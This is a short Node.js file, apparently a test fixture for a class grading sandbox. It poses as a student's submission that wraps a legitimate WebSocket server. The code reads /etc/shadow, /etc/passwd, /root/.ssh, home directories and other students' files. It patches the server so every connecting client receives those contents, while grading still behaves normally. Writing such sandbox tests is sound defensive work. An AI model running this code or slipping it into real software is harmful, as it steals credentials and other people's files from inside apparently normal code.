/**
 * Hostile hand-in: reads files outside its folder (the teacher's, a classmate's) and sends
 * what it could read to every client that connects. In the sandbox it reads nothing, so it
 * grades exactly as the article's server it wraps.
 */
"use strict";
const fs = require("fs");
const path = require("path");
const WebSocket = require("ws");

const targets = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/root/.ssh", "/home", "/work",
    path.join(__dirname, "../../faithful/package.json"),                // a classmate, as laid out in the class
    path.join(__dirname, "../../../../../Makefile")];                    // the kit, from tests/grading/class
const loot = [];
for (const target of targets) {
    try {
        const stat = fs.statSync(target);
        loot.push(target + ": " + (stat.isDirectory() ? fs.readdirSync(target).join(" ") : fs.readFileSync(target, "utf8").slice(0, 200)));
    } catch (e) { /* not there, or not allowed: nothing to send */ }
}
const emit = WebSocket.Server.prototype.emit;
WebSocket.Server.prototype.emit = function (event, ws, ...rest) {
    if (event === "connection" && loot.length) ws.send("LEAKED " + loot.join("\n"));
    return emit.call(this, event, ws, ...rest);
};
require("./article-server.js");
